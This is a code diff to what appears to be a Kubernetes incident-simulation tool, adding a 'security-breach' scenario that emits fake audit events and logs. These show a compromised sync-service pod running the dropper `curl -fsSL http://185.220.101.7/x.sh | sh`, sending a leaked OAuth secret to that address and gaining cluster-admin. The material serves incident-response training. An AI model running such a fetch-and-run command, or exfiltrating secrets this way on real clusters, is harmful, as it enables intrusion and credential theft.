@@ -22,6 +22,14 @@ if TYPE_CHECKING:
 
 DB_USERS = ("task-service", "sync-service", "handover-service", "emr-service")
 
+# The security breach's cast: the workload that was broken into, the Secret its attacker
+# read and sent out, the address it talks to, and the identity that got in.
+COMPROMISED_SERVICE = "sync-service"
+LEAKED_SECRET = "emr-oauth-client"
+ATTACKER = "185.220.101.7"
+INTRUDER = "system:serviceaccount:default:ci-runner"
+ROGUE_BINDING = "sync-service-admin"
+
 
 @dataclass(slots=True)
 class Fate:
@@ -42,6 +50,7 @@ class Faults:
         self.world = world
         self._timeline: dict[str, list[list[float | None]]] = {}
         self.broken_images: set[str] = set()
+        self.compromised: set[str] = set()  # names of pods an intruder runs code in
         self.failover_since: float | None = None  # apps started after this use postgres-replica
 
     def on(self, flag: str) -> None:
@@ -179,7 +188,7 @@ class CrashloopTaskService(Scenario):
     CrashLoopBackOff with back-off 10 s, 20 s ... 300 s and climbing restarts; `logs --previous`
     shows the crash. No task-service pod is ready, so its Service answers 503 (no endpoints);
     api-gateway returns 502/503 for the ~45% of its traffic that goes to task-service, and its
-    error counters rise. postgres logs the long statements and refused connections.
+    error counters rise; handover-service answers /health 200 `degraded` (task-service unavailable). postgres logs the long statements and refused connections.
 
     Does not fix it: `rollout restart` or scaling task-service (new pods crash the same way).
     Fixes it: restarting the primary (`kubectl delete pod postgres-0`) kills the stuck queries;
@@ -246,7 +255,8 @@ class EmrIntegrationFailure(Scenario):
     emr-service stays Running and Ready, but its /health answers 503 `EMR upstream
     unavailable`; ~65% of its requests fail with 502/504 and latency climbs (30 s timeouts);
     logs show FHIR 502s, ETIMEDOUT and `OAuth token refresh failed: invalid_client`. api-gateway
-    passes the failures on for EMR routes, and sync-service errors rise a little.
+    passes the failures on for EMR routes; sync-service errors rise a little and its /health
+    answers 200 `degraded` (`emr: unavailable`).
 
     Does not fix it: restarting emr-service (the upstream is still down).
     Mitigates it: `kubectl set env deployment/emr-service EMR_FALLBACK_MODE=true` — pods of the
@@ -416,7 +426,74 @@ class TrafficSurge(Scenario):
         world.faults.off("traffic_surge")
 
 
+class SecurityBreach(Scenario):
+    """A compromised workload (P0: security breach), which looks healthy on every dashboard.
+
+    An intruder holding a CI service account (`system:serviceaccount:default:ci-runner`)
+    execs into each running sync-service pod and pipes a script from 185.220.101.7 into a
+    shell. From then on the pods' logs carry the dropper's lines among the service's own:
+    `+ sh -c 'curl -fsSL http://185.220.101.7/x.sh | sh'`, `connect to 185.220.101.7:443 ...`,
+    and the upload of the EMR OAuth client's credentials (Secret `emr-oauth-client`: leaked);
+    `kubectl top` shows their CPU up (the implant mines). Warning events say what the audit
+    trail and runtime security saw: `ExecIntoPod` by an identity that is not the platform's,
+    `OutboundConnection` to an address outside the egress allow-list, `SecretAccessed` on
+    `emr-oauth-client` by a workload that does not mount it, and `ClusterRoleBindingCreated`
+    (`sync-service-admin` binds cluster-admin to sync-service's service account).
+
+    What does not show: errors, latency, failing health checks. sync-service keeps serving
+    and every /health says ok; a breach is found in logs and events, not on the error panes.
+
+    Contains it (the runbook's security playbook): isolate the compromised service (`kubectl
+    scale deployment/sync-service --replicas=0`; a rollout restart also replaces the
+    compromised pods) and revoke the leaked credential (`kubectl delete secret
+    emr-oauth-client`). Once no compromised pod is left and the Secret is gone, the scenario
+    ends by itself; stopping it ends the intrusion too.
+    """
+
+    name = "security-breach"
+    summary = "sync-service compromised: outbound connections, a leaked secret; looks healthy"
+
+    def start(self, world: World) -> None:
+        faults = world.faults
+        faults.on("breach")
+        events = world.events
+        for rt in _app_pods(world, COMPROMISED_SERVICE):
+            if rt.terminating or not any(c.state == "running" for c in rt.containers):
+                continue
+            faults.compromised.add(rt.name)
+            container = rt.containers[0].name
+            events.emit(rt.ref(), "ExecIntoPod",
+                        f"exec into {rt.name} (container {container}) by {INTRUDER}, not a platform identity: "
+                        f"sh -c 'curl -fsSL http://{ATTACKER}/x.sh | sh'",
+                        type_="Warning", component="audit-monitor")
+            events.emit(rt.ref(), "OutboundConnection",
+                        f"unexpected outbound connection from {rt.name} to {ATTACKER}:443 "
+                        f"(process kworkerd, not in the egress allow-list)",
+                        type_="Warning", component="runtime-security", host=rt.node)
+        secret = world.store.get("secrets", o.PLATFORM_NS, LEAKED_SECRET)
+        if secret is not None:
+            events.emit(o.involved(secret), "SecretAccessed",
+                        f"Secret {LEAKED_SECRET} read by system:serviceaccount:{o.PLATFORM_NS}:{COMPROMISED_SERVICE}, "
+                        f"which does not mount it; its values were sent to {ATTACKER}:443 (leaked)",
+                        type_="Warning", component="audit-monitor")
+        account = {"kind": "ServiceAccount", "namespace": o.PLATFORM_NS, "name": COMPROMISED_SERVICE,
+                   "apiVersion": "v1"}
+        events.emit(account, "ClusterRoleBindingCreated",
+                    f"ClusterRoleBinding {ROGUE_BINDING} created by {INTRUDER}: binds cluster-admin to "
+                    f"system:serviceaccount:{o.PLATFORM_NS}:{COMPROMISED_SERVICE}",
+                    type_="Warning", component="audit-monitor")
+
+    def stop(self, world: World) -> None:
+        world.faults.off("breach")
+        world.faults.compromised.clear()
+
+    def resolved(self, world: World) -> bool:
+        isolated = not any(rt.name in world.faults.compromised and not rt.terminating
+                           for rt in _app_pods(world, COMPROMISED_SERVICE))
+        return isolated and world.store.get("secrets", o.PLATFORM_NS, LEAKED_SECRET) is None
+
+
 SCENARIOS: dict[str, type[Scenario]] = {
     cls.name: cls for cls in (CrashloopTaskService, NodeNotReady, EmrIntegrationFailure, CompleteOutage,
-                              DatabaseFailure, BadDeploy, TrafficSurge)
+                              DatabaseFailure, BadDeploy, TrafficSurge, SecurityBreach)
 }
